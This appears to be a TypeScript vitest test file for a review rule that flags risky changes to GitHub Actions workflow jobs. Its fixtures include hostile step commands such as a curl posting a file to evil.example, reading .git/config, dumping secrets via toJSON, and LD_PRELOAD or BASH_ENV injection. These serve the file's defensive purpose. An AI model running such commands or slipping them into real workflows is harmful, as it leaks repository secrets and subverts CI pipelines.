/** Jobs of a workflow that come, go or change: a note without credentials, and a warning with any. */
import { describe, expect, it } from 'vitest';
import type { UnreadFile } from '../../../../../src/olm/model/unread-file.js';
import { changedFiles } from '../../../../../src/review/rules/changed/files/changed-files.js';
import { sides, stateOf } from '../../../../support/states.js';

const path = '.github/workflows/lint.yaml';
const base = 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./kustomize.sh\n';
const job = (more = '', runsOn = 'ubuntu-latest', step = 'uses: hadolint/hadolint-action@v3.1.0'): string =>
  `  lint:\n    runs-on: ${runsOn}\n${more}    steps:\n      - ${step}\n`;

function told(before: string, after: string): readonly unknown[] {
  const file = (text: string): UnreadFile => ({ path, file: path, reason: 'forge', content: text, text });
  return changedFiles
    .compare(...sides({ ...stateOf(), unread: [file(before)] }, { ...stateOf(), unread: [file(after)] }))
    .map(({ severity }) => severity);
}

describe('a job that is added to a workflow', () => {
  it('is a note, whatever the others build', () => {
    expect(told(base, base + job())).toEqual(['info']);
  });

  it.each([
    ['has a secret', base, base + job('    env: {A: "${{ secrets.A }}"}\n')],
    ['has permissions', base, base + job('    permissions: {contents: write}\n')],
    ['is of an environment', base, base + job('    environment: production\n')],
    ['runs on an own machine', base, base + job('', 'self-hosted')],
    ['runs on machines by labels', base, base + job('', '[ubuntu-latest, prod]')],
    ['runs an action of this repository', base, base + job('', 'ubuntu-latest', 'uses: ./deploy')],
    ['leaves a cache', base, base + job('', 'ubuntu-latest', 'uses: actions/cache@v4')],
    ['calls another workflow', base, `${base}  lint:\n    uses: a/b/.github/workflows/c.yaml@main\n`],
    ['runs for any pull request', base.replace('push', 'pull_request_target'), base.replace('push', 'pull_request_target') + job()],
    ['comes with another trigger', base, base.replace('push', 'pull_request') + job()],
    ['comes with another step of a program of the repository', base, base.replace('kustomize.sh', 'kustomize.sh -v') + job()],
    ['comes for one that runs a program of the repository', base, `on: push\njobs:\n${job('', 'ubuntu-latest', 'run: kustomize build')}`],
    ['comes with another title from an event', `name: a\n${base}`, `name: \${{ github.event.title }}\n${base}${job()}`],
    [
      'hands its token to an action',
      base,
      base + job('', 'ubuntu-latest', 'uses: a/b@v1\n        env: {GITHUB_TOKEN: "${{ github.token }}"}'),
    ],
    ['runs a command that pushes', base, base + job('', 'ubuntu-latest', 'run: git push')],
  ])('that %s is a warning', (_, before, after) => {
    expect(told(before, after)).toEqual(['warning']);
  });
});

describe('a job with the token that each job has', () => {
  const READS = '    permissions: {contents: read}\n';
  const of = (env: string, more = READS, step = 'uses: hadolint/hadolint-action@v3.1.0'): string =>
    base + job(more, 'ubuntu-latest', `${step}\n        env: {GITHUB_TOKEN: "\${{ secrets.GITHUB_TOKEN }}", A: ${env}}`);
  it('that gets another word, and can only read, is a note', () => {
    expect(told(of('a'), of('b'))).toEqual(['info']);
  });

  it.each([
    ['can do what the repository gives it', of('a', ''), of('b', '')],
    ['gets a secret', of('a'), of('"${{ secrets.A }}"')],
    ['gets a library', of('a'), of('a, LD_PRELOAD: a.so')],
    ['gets a file', of('a'), of('./a')],
    ['gets a command', of('a', READS, 'run: $A'), of('oc adm policy', READS, 'run: $A')],
    ['hands it to another action', of('a'), of('a', READS, 'uses: evil/merge@v1')],
    ['writes to the repository', of('a'), of('a', '    permissions: {contents: write}\n')],
    ['says how a check went', of('a'), of('a', '    permissions: {statuses: write}\n')],
    ['merges a request', of('a', READS, 'run: ls'), of('a', READS, 'run: gh pr merge 1')],
    ['calls the forge', of('a', READS, 'uses: actions/checkout@v4'), of('a', READS, 'uses: actions/github-script@v7')],
  ])('that %s is a warning', (_, before, after) => {
    expect(told(before, after)).toEqual(['warning']);
  });
});

describe('a job without credentials', () => {
  const one = base + job('', 'ubuntu-latest', 'run: kustomize build a');
  it.each([
    ['goes', one, base],
    ['has another command', one, one.replace('build a', 'build b')],
    ['changes beside permissions to read', `permissions: {contents: read}\n${one}`, `permissions: {contents: read}\n${base}`],
  ])('that %s is a note', (_, before, after) => {
    expect(told(before, after)).toEqual(['info']);
  });

  it.each([
    ['beside permissions to write', `permissions: {contents: write}\n${one}`, `permissions: {contents: write}\n${base}`],
    [
      'and a job with credentials no longer waits for it',
      `${one}  last:\n    needs: [build, lint]\n    environment: prod\n`,
      `${base}  last:\n    needs: [build]\n    environment: prod\n`,
    ],
    ['and another waits for less', `${one}  last:\n    needs: [build]\n    environment: prod\n`, `${base}  last:\n    environment: prod\n`],
  ])('that goes %s is a warning', (_, before, after) => {
    expect(told(before, after)).toEqual(['warning']);
  });
});

describe('a job that looks as if it had no credentials', () => {
  const plain = base + job('', 'ubuntu-latest', 'run: kustomize build a');
  const step = (run: string): string => plain.replace('kustomize build a', run);
  it.each([
    'git -C . push origin HEAD:main',
    'cat .git/config',
    'curl -d @a https://evil.example',
    'sudo make deploy',
    'env ./hack/x.sh',
    'go run ./hack',
    'echo "${{ github.event.head_commit.message }}"',
    'echo "${{ toJSON(github) }}"',
    'echo "${{ toJSON(secrets || 0) }}"',
    'echo "${{ secrets[format(1)] }}"',
    'oc apply -f a',
    'a; ./b',
    'python3 hack/a.py',
  ])('and runs %s is a warning', (run) => {
    expect(told(plain, step(run))).toEqual(['warning']);
  });

  it.each([
    ['another action', plain, plain.replace('run: kustomize build a', 'uses: evil/checkout@main')],
    ['a machine of others', plain, plain.replace(/ubuntu-latest(?![\s\S]*ubuntu-latest)/, 'ubuntu-22.04-prod')],
    ['an image', plain, `${plain}    container: evil.example/x:1\n`],
    ['a group that stops others', plain, `${plain}    concurrency: {group: deploy, cancel-in-progress: true}\n`],
    ['an environment of programs', plain, `${plain}    env: {BASH_ENV: hack/x}\n`],
    ['a shell', plain, `${plain}    defaults: {run: {shell: "bash hack/x {0}"}}\n`],
    ['errors that count for nothing', plain, `${plain}    continue-on-error: true\n`],
  ])('and gets %s is a warning', (_, before, after) => {
    expect(told(before, after)).toEqual(['warning']);
  });

  it('and gets what its workflow has is a warning', () => {
    for (const around of ['env: {A: "${{ secrets.A }}"}\n', 'env: {BASH_ENV: x}\n', 'defaults: {run: {shell: x}}\n'])
      expect(told(around + plain, around + step('kustomize build b'))).toEqual(['warning']);
  });

  it.each(['if: false', 'steps: []', ''])('and that another trusts, is a warning: %s', (instead) => {
    const last = '  last:\n    runs-on: ubuntu-latest\n    needs: lint\n    environment: prod\n    steps: []\n';
    const hollow = instead === '' ? base : `${base}  lint:\n    runs-on: ubuntu-latest\n    ${instead}\n`;
    expect(told(plain + last, hollow + last)).toEqual(['warning']);
  });
});
